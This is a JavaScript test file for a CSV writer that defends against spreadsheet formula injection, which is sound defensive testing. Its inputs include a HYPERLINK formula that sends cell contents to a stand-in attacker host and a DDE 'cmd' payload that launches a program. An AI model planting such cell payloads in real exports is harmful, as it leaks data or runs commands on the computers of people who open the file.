import { describe, expect, it } from '@jest/globals';
import { csvLine, csvNumber, csvText } from './csv.js';

describe('CSV cells', () => {
  it('writes a text cell a spreadsheet would run as a formula as plain text, with a leading apostrophe', () => {
    expect(csvText('=HYPERLINK("//ev.il/"&D2,"x")')).toBe(`"'=HYPERLINK(""//ev.il/""&D2,""x"")"`);
    expect(csvText("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvText('-2+3')).toBe("'-2+3");
    expect(csvText('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvText('\t=1+1')).toBe("'\t=1+1");
    expect(csvText('\r=1+1')).toBe(`"'\r=1+1"`);
    // OWASP lists the line feed among the characters no cell may begin with.
    expect(csvText('\n=1+1')).toBe(`"'\n=1+1"`);
  });

  it('quotes a cell holding a semicolon, the field separator of spreadsheets set up for many locales (OWASP)', () => {
    expect(csvText('Smith;=HYPERLINK("//ev.il")')).toBe(`"Smith;=HYPERLINK(""//ev.il"")"`);
    expect(csvText('a;b')).toBe('"a;b"');
  });

  it('leaves ordinary text alone and quotes only a comma, a quote or a line break', () => {
    expect(csvText('Rose Cottage')).toBe('Rose Cottage');
    expect(csvText("O'Neil")).toBe("O'Neil");
    expect(csvText('a=b')).toBe('a=b');
    expect(csvText('Flat 2, "The Oaks"')).toBe('"Flat 2, ""The Oaks"""');
    expect(csvText('')).toBe('');
  });

  it('writes a number the server computed as a number, a negative one too, and refuses anything else there', () => {
    expect(csvNumber('10.00')).toBe('10.00');
    expect(csvNumber('-12.50')).toBe('-12.50');
    expect(csvNumber('')).toBe('');
    expect(() => csvNumber('-1+cmd')).toThrow(/not a number/);
    expect(() => csvNumber('=1')).toThrow(/not a number/);
  });

  it('joins a line with commas', () => {
    expect(csvLine(['=1', '2'])).toBe("'=1,2");
  });
});
